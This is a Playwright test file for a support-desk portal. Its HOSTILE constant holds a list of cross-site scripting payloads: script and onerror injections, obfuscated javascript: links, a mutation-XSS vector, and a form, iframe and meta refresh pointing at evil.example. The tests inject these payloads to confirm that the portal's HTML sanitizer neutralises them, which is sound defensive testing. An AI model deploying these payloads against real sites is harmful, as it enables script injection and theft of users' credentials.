import { type Browser, expect, type Page } from '@playwright/test'

import type { Ticket } from '#shared/tickets/contract.ts'

import { expectAccessible } from './axe.ts'
import { aPicture, openTicketWith } from './raise-ticket.ts'
import { portalUrl, signIn, watchConsole } from './sign-in.ts'
import { openDesk, raiseTickets } from './support-desk.ts'
import { test } from './test.ts'

const KATHARINA = { email: 'katharina.vogel@northwind.example', name: 'Katharina Vogel' }

const OWN_FILE = '/api/desk-files/01900000-0000-7000-8000-000000000001?inline=1'

/** Content that the server would never store: here the page is on its own. */
const HOSTILE = `
<script>document.title = 'pwned'</script>
<p onclick="document.title = 'pwned'" style="position: fixed" class="x" id="root" name="body" title="x">Text</p>
<img src="x" onerror="document.title = 'pwned'" alt="broken">
<img src="${OWN_FILE}" srcset="https://evil.example/1.png 2x" id="cookie" name="cookie">
<img src="https://evil.example/2.png" alt="pixel">
<a href="javascript:document.title = 'pwned'">one</a>
<a href=" java&#10;script:document.title = 'pwned'">two</a>
<a href="data:text/html,<script>1</script>">three</a>
<a href="/api/auth/logout">four</a>
<a href="https://good.example/?a=1" target="_self" id="location" ping="https://evil.example">five</a>
<style>* { display: none }</style>
<svg><script>document.title = 'pwned'</script><a href="javascript:1"><text>six</text></a></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=document.title='pwned'&gt;">
</table></mtext></math>
<form action="https://evil.example"><input name="password"><button>seven</button></form>
<iframe src="https://evil.example">eight</iframe>
<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">
<template><img src="x" onerror="document.title = 'pwned'"></template>
<!-- a comment -->
<h3>Steps</h3><table><tbody><tr><td colspan="2" bgcolor="red">cell</td></tr></tbody></table>`

const HARMLESS = [
  '<p dir="auto">Text</p>broken',
  `<img src="${OWN_FILE}" alt="" dir="auto">`,
  'pixel one two three four',
  '<a dir="auto" href="https://good.example/?a=1" target="_blank" rel="noopener noreferrer nofollow">five</a>',
  '<h4 dir="auto">Steps</h4><table dir="auto"><tbody><tr><td colspan="2">cell</td></tr></tbody></table>',
].join('')

for (const way of ["by the browser's own means", 'without setHTML']) {
  test(`an agent's content does no harm ${way} when it is not sanitized`, async ({ page }) => {
    const requests: string[] = []
    page.on('request', (request) => requests.push(request.url()))
    if (way === 'without setHTML') {
      await page.addInitScript(() => Reflect.deleteProperty(Element.prototype, 'setHTML'))
    }
    await signIn(page, KATHARINA)
    const ticket = await firstPendingTicket(page)
    const comment = ticket.comments.find(({ isAgent }) => isAgent)
    if (!comment) throw new Error('nobody has answered yet')
    comment.content = HOSTILE
    await page.route(`**/api/tickets/${ticket.id}`, (route) => route.fulfill({ json: ticket }))

    await page.goto(`${portalUrl()}/tickets/${ticket.id}`)
    const shown = page.locator(`#comment-${comment.id} [class*=html_]`)
    await expect(shown.getByRole('link', { name: 'five' })).toBeVisible()
    const html = await shown.evaluate((element) => {
      for (const node of element.querySelectorAll('a')) {
        // In the order of the expected text, independently of the order in the source.
        for (const name of ['dir', 'href', 'target', 'rel']) {
          const value = node.getAttribute(name) ?? ''
          node.removeAttribute(name)
          node.setAttribute(name, value)
        }
      }
      return element.innerHTML.replaceAll(/\s*\n\s*/g, ' ')
    })
    expect(html.replaceAll(/ (?=<)|(?<=>) | $|^ /g, '')).toBe(HARMLESS)
    expect(await page.title()).not.toContain('pwned')
    expect(requests.filter((url) => !url.startsWith(portalUrl()) && !isSignIn(url))).toEqual([])
    const loaded = requests.some((url) => url.includes('parse-with-dompurify'))
    expect(loaded).toBe(way === 'without setHTML')
  })
}

test('a comment is found and marked when its link is opened, and each comment gives its own', async ({
  browser,
}) => {
  const page = await aLowWindow(browser)
  await signIn(page, KATHARINA)
  const query = new URLSearchParams({ q: 'Someone clicked the link in a phishing email' })
  const [{ id }] = await (await page.request.get(`${portalUrl()}/api/tickets?${query}`)).json()
  await page.goto(`${portalUrl()}/tickets/${id}`)
  const comments = page.getByRole('list').locator('> [id^=comment-]')
  const oldest = comments.last()
  await oldest.getByRole('button', { name: 'Copy link' }).click()
  const link = await page.evaluate(() => navigator.clipboard.readText())
  expect(link).toMatch(new RegExp(`^${portalUrl()}/tickets/${id}#comment-[0-9a-f-]{36}$`))

  const other = await page.context().newPage()
  await other.goto(link)
  const linked = other.locator(new URL(link).hash)
  await expect(linked).toBeInViewport()
  await expect(linked).toHaveAttribute('aria-current', 'true')
  await expect(other.locator('[id^=comment-][aria-current]')).toHaveCount(1)
  await expect(linked).toContainText('Thanks for telling us right away.')
})

test('the arrow keys lead through pictures in reading direction when the page is read from either side', async ({
  page,
}) => {
  await signIn(page, KATHARINA)
  await openTicketWith(page, [
    aPicture('red.png', [190, 40, 60]),
    aPicture('blue.png', [40, 92, 160]),
    aPicture('green.png', [40, 160, 92]),
  ])
  await page.getByRole('link', { name: /red\.png/ }).click()
  const dialog = page.getByRole('dialog')
  await expect(dialog).toContainText('1 of 3')
  await page.keyboard.press('ArrowRight')
  await expect(dialog).toContainText('2 of 3')
  await page.evaluate(() => (document.documentElement.dir = 'rtl'))
  await page.keyboard.press('ArrowRight')
  await expect(dialog).toContainText('1 of 3')
  await page.keyboard.press('ArrowLeft')
  await page.keyboard.press('ArrowLeft')
  await expect(dialog).toContainText('3 of 3')
})

test('a long conversation loads older comments when reading reaches them, and as far as a link leads', async ({
  browser,
}) => {
  const [ticket] = await raiseTickets(browser, KATHARINA, ['A very long story'])
  const page = await aLowWindow(browser)
  const errors = watchConsole(page)
  await signIn(page, KATHARINA)
  const desk = await openDesk()
  await desk.fill(page, ticket!, 330)
  await desk.close()
  const url = `${portalUrl()}/tickets/${ticket!.id}`
  await page.goto(url)
  const comments = page.locator('[id^=comment-]')
  const end = page.getByText(/^Showing the newest/)
  await expect(end).toHaveText('Showing the newest 100 of 330 replies.')
  await page.emulateMedia({ media: 'print' })
  await expect(end).toBeVisible()
  await expect(page.getByRole('button', { name: 'Show older replies' })).toBeHidden()
  await page.emulateMedia({ media: null })
  await expectAccessible(page, 'a long conversation', { looks: ['light'] })

  // Reading on.
  await end.scrollIntoViewIfNeeded()
  await expect(comments).toHaveCount(200)
  // Loaded comments stay when the newest are read again.
  await page.getByRole('textbox', { name: 'Your reply' }).fill('The end of it')
  await page.getByRole('button', { name: 'Send' }).click()
  await expect(comments.first()).toContainText('The end of it')
  await expect(comments).toHaveCount(201)

  // Without scrolling there, which begins to load by itself.
  await page.getByRole('button', { name: 'Load the whole conversation' }).dispatchEvent('click')
  await expect(comments).toHaveCount(331)
  await expect(end).toBeHidden()
  const anchor = await comments.last().getAttribute('id')

  const other = await page.context().newPage()
  await other.goto(`${url}#${anchor}`)
  await expect(other.locator(`#${anchor}`)).toBeInViewport()
  await expect(other.locator(`#${anchor}`)).toHaveAttribute('aria-current', 'true')
  expect(errors).toEqual([])
})

async function firstPendingTicket(page: Page): Promise<Ticket> {
  const [{ id }] = await (
    await page.request.get(`${portalUrl()}/api/tickets?status=pending`)
  ).json()
  return (await page.request.get(`${portalUrl()}/api/tickets/${id}`)).json()
}

function isSignIn(url: string): boolean {
  return new URL(url).hostname === '127.0.0.1'
}

async function aLowWindow(browser: Browser): Promise<Page> {
  const context = await browser.newContext({
    viewport: { width: 1024, height: 500 },
    permissions: ['clipboard-read', 'clipboard-write'],
  })
  return context.newPage()
}
